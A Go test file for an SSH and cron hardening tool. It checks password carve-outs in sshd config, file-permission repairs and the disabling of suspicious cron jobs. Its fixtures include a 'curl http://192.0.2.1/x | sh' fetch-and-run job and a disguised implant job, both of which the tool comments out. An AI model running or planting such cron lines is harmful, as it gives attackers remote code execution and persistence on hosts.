package fix_test

import (
	"strings"
	"testing"
	"time"

	"github.com/postern-ssh/postern/fix"
	"github.com/postern-ssh/postern/inventory"
)

func carve(user, method, addresses string) inventory.CarveOut {
	return inventory.CarveOut{User: user, Addresses: strings.Fields(addresses), Method: method, Owner: "facility", Reason: "it cannot do\nkeys",
		Expires: time.Date(2027, 1, 1, 0, 0, 0, 0, time.UTC), Pos: inventory.Pos{File: "postern.yaml", Line: 3, Column: 5}}
}

func TestCarveOut(t *testing.T) {
	w := newWorld()
	w.host.Allow = []inventory.CarveOut{carve("bob", "password", "10.0.0.5 192.0.2.0/24")}
	h := w.plan(t, "no-password-login")
	got := string(change(t, h, mainFile).New)
	want := "\n# postern allow: bob until 2027-01-01, facility: it cannot do?keys\nMatch User bob Address 10.0.0.5,192.0.2.0/24\n    PasswordAuthentication yes\n"
	if !strings.HasSuffix(got, want) || len(h.Refused) > 0 || len(h.Unfixed) > 0 {
		t.Fatalf("%s\n%s", got, tell(h))
	}
	closed, stay := strings.Join(h.Effect.Closed, "\n"), strings.Join(append(h.Effect.Stay, h.Effect.Opened...), "\n")
	if !strings.Contains(closed, "bob by password, anywhere") || !strings.Contains(stay, "bob by password, from ") {
		t.Errorf("closed %s\nstay %s", closed, stay)
	}

	// Once it is there, there is nothing to do; once it has run out, it goes.
	w.config(got)
	if h := w.plan(t, "no-password-login"); len(h.Changes) > 0 {
		t.Error(tell(h))
	}
	w.host.Allow[0].Expires = now
	h = w.plan(t, "no-password-login")
	if c := change(t, h, mainFile); strings.Contains(string(c.New), "Match") || strings.Contains(string(c.New), "postern") {
		t.Error(string(c.New))
	} else if !strings.HasSuffix(got, want) || string(c.New) != strings.TrimSuffix(got, want) {
		t.Errorf("%q", c.New)
	}
}

func TestCarveOutForms(t *testing.T) {
	for _, c := range []struct {
		name, config string
		allow        inventory.CarveOut
		want         []string // in the new file
		refused      string
	}{
		{"a block decides before it", "UsePAM yes\nKbdInteractiveAuthentication no\nMatch User bob\n  PasswordAuthentication no\n", carve("bob", "password", "10.0.0.5"),
			[]string{"Match User bob Address 10.0.0.5\n  PasswordAuthentication yes\n\nMatch User bob\n"}, ""},
		{"another chain is asked for", "UsePAM yes\nAuthenticationMethods publickey\nKbdInteractiveAuthentication no\n", carve("bob", "password", "10.0.0.5"),
			[]string{"    AuthenticationMethods password\n"}, ""},
		{"root", "UsePAM yes\nPermitRootLogin yes\nKbdInteractiveAuthentication no\n", carve("root", "publickey", "10.0.0.5"),
			[]string{"PermitRootLogin no\n", "    PermitRootLogin prohibit-password\n"}, ""},
		{"a list of users shuts it out", "UsePAM yes\nAllowUsers alice\nPasswordAuthentication yes\nKbdInteractiveAuthentication yes\n", carve("bob", "password", "10.0.0.5"), nil, "AllowUsers"},
	} {
		t.Run(c.name, func(t *testing.T) {
			w := newWorld().config(c.config)
			w.host.Allow = []inventory.CarveOut{c.allow}
			h := w.plan(t, "no-password-login", "no-root-login", "x11-forwarding")
			for _, r := range h.Refused {
				if c.refused == "" || !strings.Contains(r.Why, c.refused) {
					t.Error(tell(h))
				}
			}
			if (c.refused != "") != (len(h.Refused) > 0) && len(h.Changes) > 0 {
				t.Error(tell(h))
			}
			if len(c.want) == 0 {
				return
			}
			got := string(change(t, h, mainFile).New)
			for _, s := range c.want {
				if !strings.Contains(got, s) {
					t.Errorf("no %q in\n%s\n%s", s, got, tell(h))
				}
			}
		})
	}
}

// A block that allow: covers stays; one that reaches further is closed.
func TestBlockThatIsAllowed(t *testing.T) {
	config := "UsePAM yes\nKbdInteractiveAuthentication no\nPasswordAuthentication no\nMatch User bob Address 10.0.0.0/24\n  PasswordAuthentication yes\n"
	w := newWorld().config(config)
	w.host.Allow = []inventory.CarveOut{carve("bob", "password", "10.0.0.0/24")}
	if h := w.plan(t, "no-password-login"); len(h.Changes) > 0 {
		t.Error(tell(h))
	}
	w.host.Allow = []inventory.CarveOut{carve("bob", "password", "10.0.0.7")}
	h := w.plan(t, "no-password-login")
	got := string(change(t, h, mainFile).New)
	if !strings.Contains(got, "10.0.0.0/24\n  PasswordAuthentication no\n") || !strings.Contains(got, "Match User bob Address 10.0.0.7\n  PasswordAuthentication yes\n") {
		t.Errorf("%s\n%s", got, tell(h))
	}
}

func TestOthersChanges(t *testing.T) {
	day := "# postern 2026-11-23, "
	for _, c := range []struct {
		name   string
		make   func(*world)
		rule   string
		file   string
		kind   fix.Kind
		old    string
		new    string
		mode   uint32
		owner  int64
		user   string
		unfix  string
		refuse string
	}{
		{name: "a file that others may write", rule: "sshd-config-files", file: mainFile, kind: fix.KindMode, mode: 0o644,
			make: func(w *world) { w.put(mainFile, 'f', 0o666, 0, 0, stock) }},
		{name: "owner and mode", rule: "cron-table-files", file: "/etc/crontab", kind: fix.KindMode, mode: 0o644,
			make: func(w *world) { w.put("/etc/crontab", 'f', 0o664, 1001, 0, "") }},
		{name: "a host key", rule: "host-key-files", file: "/etc/ssh/ssh_host_rsa_key", kind: fix.KindMode, mode: 0o600,
			make: func(w *world) {
				f := w.files["/etc/ssh/ssh_host_rsa_key"]
				f.Mode = 0o644
				w.files[f.Path] = f
			}},
		{name: "a user's key file", rule: "authorized-keys-files", file: "/home/alice/.ssh/authorized_keys", kind: fix.KindMode, mode: 0o600, owner: 1000, user: "alice",
			make: func(w *world) {
				w.put("/home/alice/.ssh/authorized_keys", 'f', 0o602, 1000, 1000, key("alice")+"\n")
			}},
		{name: "a key file of somebody else's", rule: "authorized-keys-files", unfix: "for you to look at",
			make: func(w *world) {
				w.put("/home/alice/.ssh/authorized_keys", 'f', 0o644, 1001, 1001, key("alice")+"\n")
			}},
		{name: "variables of a key", rule: "user-environment-keys", file: "/home/alice/.ssh/authorized_keys", kind: fix.KindKeys, mode: 0o600, owner: 1000, user: "alice",
			make: func(w *world) {
				w.put("/home/alice/.ssh/authorized_keys", 'f', 0o600, 1000, 1000, "# mine\nno-pty,environment=\"A=b, \\\"c\\\"\",from=\"10.0.0.0/8\" "+key("alice")+"\n")
			}, new: "# mine\nno-pty,from=\"10.0.0.0/8\" " + key("alice") + "\n"},
		{name: "variables alone", rule: "user-environment-keys", file: "/home/alice/.ssh/authorized_keys", kind: fix.KindKeys, mode: 0o600, owner: 1000, user: "alice",
			make: func(w *world) {
				w.put("/home/alice/.ssh/authorized_keys", 'f', 0o600, 1000, 1000, "environment=\"A=b\" "+key("alice"))
			}, new: key("alice")},
		{name: "a job from the net", rule: "fetch-and-run-jobs", file: "/etc/crontab", kind: fix.KindTable, mode: 0o644,
			make: func(w *world) {
				w.text("/etc/crontab", "5 * * * * root /usr/local/sbin/job\n0 * * * * root curl http://192.0.2.1/x | sh\n")
			}, new: "5 * * * * root /usr/local/sbin/job\n" + day + "fetch-and-run-jobs: 0 * * * * root curl http://192.0.2.1/x | sh\n"},
		{name: "a user's table", rule: "fetch-and-run-jobs", file: "/var/spool/cron/crontabs/bob", kind: fix.KindTable, mode: 0o600, owner: 1001, user: "bob",
			make: func(w *world) {
				w.put("/var/spool/cron/crontabs/bob", 'f', 0o600, 1001, 105, "0 * * * * curl http://192.0.2.1/x | sh\n")
			}, new: day + "fetch-and-run-jobs: 0 * * * * curl http://192.0.2.1/x | sh\n"},
		{name: "crontab for those who use it", rule: "crontab-allow-list", file: "/etc/cron.allow", kind: fix.KindTable, mode: 0o644,
			make: func(w *world) {
				w.put("/var/spool/cron/crontabs/bob", 'f', 0o600, 1001, 105, "0 * * * * /usr/local/sbin/job\n")
				w.put("/var/spool/cron/crontabs/alice", 'f', 0o600, 1000, 105, "0 * * * * /usr/local/sbin/job\n").text("/etc/cron.deny", "alice\n")
			}, new: "root\nbob\n"},
		{name: "a missing job, its line is known", rule: "expected-job-missing", file: "/etc/crontab", kind: fix.KindTable, mode: 0o644,
			make: func(w *world) {
				w.host.Expect = []inventory.Expectation{{Match: "*monitor*", User: "root", Line: "*/5 * * * * root /usr/local/sbin/monitor"}}
			}, new: "SHELL=/bin/sh\n17 * * * * root /usr/local/sbin/job\n*/5 * * * * root /usr/local/sbin/monitor\n"},
		{name: "a missing job, nothing is known", rule: "expected-job-missing", unfix: "no earlier archive",
			make: func(w *world) { w.host.Expect = []inventory.Expectation{{Match: "*monitor*", User: "root"}} }},
	} {
		t.Run(c.name, func(t *testing.T) {
			w := newWorld()
			c.make(w)
			h := w.plan(t, c.rule)
			if c.unfix != "" {
				if len(h.Changes) > 0 || len(h.Unfixed) == 0 || !strings.Contains(h.Unfixed[0].Why, c.unfix) {
					t.Error(tell(h))
				}
				return
			}
			if len(h.Unfixed) > 0 || len(h.Changes) != 1 || len(h.Refused) > 0 {
				t.Fatal(tell(h))
			}
			got := change(t, h, c.file)
			if got.Kind != c.kind || got.After.Mode != c.mode || got.After.UID != c.owner || got.User != c.user || string(got.New) != c.new {
				t.Errorf("%+v\n%s", got, tell(h))
			}
		})
	}
}

// The story of 2011: the implant goes, and the monitor comes back from what was
// kept before.
func TestStory(t *testing.T) {
	const spool = "/var/spool/cron/crontabs/root"
	past := newWorld()
	past.put(spool, 'f', 0o600, 0, 105, "*/5 * * * * /usr/local/sbin/monitor --all\n0 3 * * * /usr/local/sbin/job\n")
	w := newWorld()
	w.put(spool, 'f', 0o600, 0, 105, "*/10 * * * * sh '. ../update' >/dev/null 2>&1\n0 3 * * * /usr/local/sbin/job\n")
	w.host.Expect = []inventory.Expectation{{Match: "*monitor*", User: "root"}}
	earlier := past.snapshot()
	earlier.Start = now.AddDate(0, 0, -1)
	w.in.Earlier = earlierOf(earlier)
	h := w.plan(t, "deceptive-job-names", "expected-job-missing")
	want := "# postern 2026-11-23, deceptive-job-names: */10 * * * * sh '. ../update' >/dev/null 2>&1\n0 3 * * * /usr/local/sbin/job\n*/5 * * * * /usr/local/sbin/monitor --all\n"
	if got := string(change(t, h, spool).New); got != want || len(h.Unfixed) > 0 || len(h.Refused) > 0 || h.Reload.Needed {
		t.Errorf("got\n%s\n%s", got, tell(h))
	}
}

// A public half without its private one is the sign of a key that went: none is made
// over it.
func TestHostKeyWithoutPrivateHalf(t *testing.T) {
	w := newWorld()
	delete(w.files, "/etc/ssh/ssh_host_ed25519_key")
	h := w.plan(t, "ed25519-host-key")
	if len(h.Changes) != 0 || len(h.Unfixed) != 1 || !strings.Contains(h.Unfixed[0].Why, "without its private half") {
		t.Error(tell(h))
	}
	delete(w.files, "/etc/ssh/ssh_host_ed25519_key.pub")
	if h := w.plan(t, "ed25519-host-key"); len(h.Changes) != 1 || len(h.Unfixed) != 0 {
		t.Error(tell(h))
	}
}
